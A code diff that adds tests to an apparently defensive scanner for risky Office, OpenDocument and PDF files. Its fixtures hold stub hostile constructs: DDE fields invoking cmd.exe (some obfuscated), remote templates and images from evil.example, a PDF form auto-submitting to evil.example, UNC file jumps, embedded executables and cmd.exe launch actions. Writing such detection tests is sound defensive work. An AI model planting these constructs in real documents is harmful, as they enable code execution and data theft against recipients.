@@ -50,6 +50,16 @@ const relation = (kind, target, mode = '') =>
   `<Relationship Id="r1" Type="${RELATION}/${kind}" Target="${target}"${mode}/>`;
 const EXTERNAL = ' TargetMode="External"';
 
+/** A DOCX with this in its text. */
+const text = (inside, name = 'word/document.xml') =>
+  word({
+    others: [{ name, content: `<?xml version="1.0" encoding="UTF-8"?><w:p>${inside}</w:p>` }],
+  });
+const instruction = (...pieces) =>
+  `<w:fldChar w:fldCharType="begin"/>${pieces
+    .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
+    .join('')}<w:fldChar w:fldCharType="separate"/>`;
+
 /** A PDF of these objects; `packed` ones lie in an object stream. */
 function pdf(
   objects,
@@ -95,6 +105,15 @@ for (const [what, bytes] of Object.entries({
   ]),
   a_pdf_with_packed_objects: pdf(['<</Type/Catalog>>'], { packed: ['<</Title(a)/Next 2 0 R>>'] }),
   a_pdf_with_an_image: withImage,
+  fields_that_call_nobody: text(
+    instruction(' HYPERLINK "https://eure.example/dde/ddeauto" ', ' REF DDE ') +
+      '<w:t>DDEAUTO</w:t><!-- DDEAUTO <script> --><w:fldSimple w:instr="PAGE"/>',
+  ),
+  an_image_that_is_no_xml: word({
+    others: [{ name: 'word/media/image1.png', content: Buffer.from([0x89, 0, 0x3c, 0x21, 0xff]) }],
+  }),
+  an_odt_without_its_scripts: openDocument('<office:scripts/><text:p>:script &lt;script </text:p>'),
+  a_pdf_with_a_link_to_a_site: pdf(['<</S/URI/URI(https://example.org/EmbeddedFiles/GoToR)>>']),
   a_pdf_that_opens_at_a_page: pdf(['<</Type/Catalog/OpenAction[3 0 R/Fit]>>']),
 })) {
   test(`takes_${what}`, async () => {
@@ -107,6 +126,12 @@ for (const [what, bytes] of Object.entries({
 const MACRO = /contient une macro/;
 const OBJECT = /objet incorporé/;
 const TEMPLATE = /modèle qui est ailleurs/;
+const ELSEWHERE = /contenu qui est ailleurs/;
+const FIELD = /champ DDE/;
+const FILES = /contient d’autres fichiers/;
+const FORM = /envoie ou importe des données/;
+const JUMP = /ouvre un autre fichier/;
+const MEDIA = /une animation/;
 const JAVASCRIPT = /contient du JavaScript/;
 const UNREADABLE = /abîmé, protégé ou trop compressé/;
 
@@ -150,6 +175,42 @@ for (const [what, [bytes, reason]] of Object.entries({
     word({ rels: relation('attachedTemplate', 'https://evil.example/a.dotm', EXTERNAL) }),
     TEMPLATE,
   ],
+  an_image_of_elsewhere: [
+    word({ rels: relation('image', 'https://evil.example/a.png', EXTERNAL) }),
+    ELSEWHERE,
+  ],
+  an_image_that_calls_itself_a_link: [
+    word({
+      rels: relation('image', `x/relationships/hyperlink`, " TargetMode = 'Ex&#116;ernal'"),
+    }),
+    ELSEWHERE,
+  ],
+  a_document_of_another_kind_inside: [word({ rels: relation('aFChunk', 'a.rtf') }), OBJECT],
+  a_dde_field: [text(instruction(' DDEAUTO c:\\\\cmd.exe "/k calc" ')), FIELD],
+  a_dde_field_in_pieces: [text(instruction('\n D', 'de', ' excel')), FIELD],
+  a_dde_field_in_other_letters: [text(instruction('&#x0044;&#68;EAU', '&#x54;O x')), FIELD],
+  a_simple_dde_field: [text("<w:fldSimple w:instr='DDE excel a'/>"), FIELD],
+  a_dde_field_in_a_footer: [text(instruction('DDEAUTO x'), 'word/pied.bin'), FIELD],
+  a_dde_field_in_a_section: [text(`<![CDATA[${instruction('DDEAUTO x')}]]>`), UNREADABLE],
+  a_part_in_utf_16: [
+    word({ others: [{ name: 'word/a.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }] }),
+    UNREADABLE,
+  ],
+  a_part_in_utf_16_without_mark: [
+    word({ others: [{ name: 'word/a.xml', content: Buffer.from('<a/>', 'utf16le').swap16() }] }),
+    UNREADABLE,
+  ],
+  a_part_in_another_encoding: [
+    word({
+      others: [{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }],
+    }),
+    UNREADABLE,
+  ],
+  a_script_inside_of_odf: [openDocument('<x><o:script script:language="JS"/></x>'), MACRO],
+  a_dde_link_of_odf: [openDocument('<x><office:dde-source office:name="a"/></x>'), FIELD],
+  a_section_of_elsewhere_of_odf: [openDocument('<x><text:section-source/></x>'), ELSEWHERE],
+  a_frame_of_odf: [openDocument('<x><draw:floating-frame\nxlink:href="a"/></x>'), ELSEWHERE],
+  an_applet_of_odf: [openDocument('<x><draw:applet/></x>'), OBJECT],
   a_document_type_in_a_part: [word({ types: '<!DOCTYPE x [<!ENTITY v "vba">]>' }), UNREADABLE],
   another_encoding_of_a_part: [word({ encoding: 'UTF-7' }), UNREADABLE],
   a_bomb: [word({ types: ' '.repeat(2 ** 21) }), UNREADABLE],
@@ -189,6 +250,20 @@ for (const [what, [bytes, reason]] of Object.entries({
     ]),
     JAVASCRIPT,
   ],
+  files_inside: [pdf(['<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>']), FILES],
+  a_file_without_its_type: [pdf(['<</F(a.exe)/EF<</F 3 0 R>>>>']), FILES],
+  a_file_in_an_object_stream: [
+    pdf(['<<>>'], { packed: ['<</Type/Filespec/E#46<</F 3 0 R>>>>'] }),
+    FILES,
+  ],
+  a_form_that_is_sent_on_its_own: [
+    pdf(['<</Type/Page/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>>>']),
+    FORM,
+  ],
+  a_form_that_imports: [pdf(['<</S/ImportData/F(a.fdf)>>']), FORM],
+  a_jump_to_another_file: [pdf(['<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>']), JUMP],
+  a_jump_to_a_file_inside: [pdf(['<<>>'], { packed: ['<</S/GoToE/T 3 0 R>>'] }), JUMP],
+  rich_media: [pdf(['<</Subtype/RichMedia>>']), MEDIA],
   a_program_that_is_launched: [pdf(['<</S/Launch/F(cmd.exe)>>']), /lance un programme/],
   objects_packed_twice: [
     pdf(['<<>>'], {
